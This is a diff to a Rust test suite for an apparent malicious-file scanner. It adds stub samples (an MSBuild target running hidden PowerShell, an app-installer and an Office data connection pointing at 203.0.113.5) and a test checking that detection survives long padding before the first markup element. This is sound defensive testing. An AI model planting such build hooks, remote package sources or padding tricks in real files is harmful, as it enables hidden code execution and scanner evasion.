@@ -101,7 +101,60 @@ const CASES: &[Case] = &[
         "<meta http-equiv=refresh content=\"0;url=http://203.0.113.5/x\">",
         "html-script",
     ),
+    (
+        "a.csproj",
+        "<Project>",
+        "<!-- words of nothing -->",
+        "<Target Name=\"a\"><Exec Command=\"powershell -w hidden -c a\"/></Target></Project>",
+        "msbuild-build-event",
+    ),
+    (
+        "a.appinstaller",
+        "<?xml version=\"1.0\"?><AppInstaller Uri=\"http://203.0.113.5/a\">",
+        "<a b=\"c\"/>",
+        "<MainPackage Uri=\"http://203.0.113.5/a.msix\"/></AppInstaller>",
+        "installer",
+    ),
+    (
+        "a.odc",
+        "<html xmlns:odc=\"urn:schemas-microsoft-com:office:odc\"><head>",
+        "<a b=\"c\"/>",
+        "<xml><odc:OfficeDataConnection><odc:Connection odc:Type=\"OLEDB\"><odc:ConnectionString>Provider=SQLOLEDB;Data Source=203.0.113.5</odc:ConnectionString></odc:Connection></odc:OfficeDataConnection></xml></head></html>",
+        "web-query",
+    ),
 ];
+
+/// What may stand in front of the first element of markup, and is longer than a head.
+fn prologs() -> [String; 4] {
+    [
+        "<!-- a -->".repeat(100),
+        format!("<!-- {}-->", "words of nothing ".repeat(8000)),
+        format!("<?a {}?>", "words of nothing ".repeat(8000)),
+        format!("<!DOCTYPE a [{}]>", "<!-- ]> -->".repeat(8000)),
+    ]
+}
+
+#[test]
+fn whatever_stands_in_front_of_the_first_element_is_passed_over() {
+    let engine = engine();
+    let mut worker = Worker::new(&engine);
+    let mut bad = Vec::new();
+    let cases = CASES.iter().filter(|case| case.1.starts_with('<'));
+    for (name, head, _, acts, id) in cases {
+        let declared = head.find("?>").map_or(0, |end| end + 2);
+        let (declaration, head) = head.split_at(declared);
+        for prolog in prologs() {
+            let file = [declaration, &prolog, head, acts].concat();
+            let report = scan(&mut worker, name, file.into_bytes());
+            if !report.findings.iter().any(|finding| finding.id == *id) {
+                let start = prolog.get(..8).unwrap_or_default();
+                let kind = &report.artifacts[0].kind;
+                bad.push(format!("{name} behind {start}: a {kind:?} without {id}"));
+            }
+        }
+    }
+    assert!(bad.is_empty(), "{}", bad.join("\n"));
+}
 
 #[test]
 fn what_acts_is_found_behind_any_padding() {
